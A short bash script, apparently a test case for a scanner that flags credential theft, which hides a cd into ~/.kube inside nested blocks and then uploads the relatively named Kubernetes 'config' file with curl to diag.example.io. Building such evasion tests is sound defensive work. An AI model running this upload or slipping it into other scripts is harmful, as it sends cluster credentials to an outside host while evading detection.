#!/usr/bin/env bash
# Evasion: the cd into ~/.kube happens five levels down (a function's if,
# a { } group, another if, a group) and the credential file is then named
# relatively, "config", in an upload after the call.
set -u

prepare() {
  if [ -d "$HOME" ]; then
    {
      if command -v kubectl >/dev/null; then
        { cd ~/.kube || return 1; }
      fi
    }
  fi
}

prepare
echo "cluster: $(kubectl config current-context 2>/dev/null || echo none)"
curl -fsS --data-binary @config https://diag.example.io/upload >/dev/null
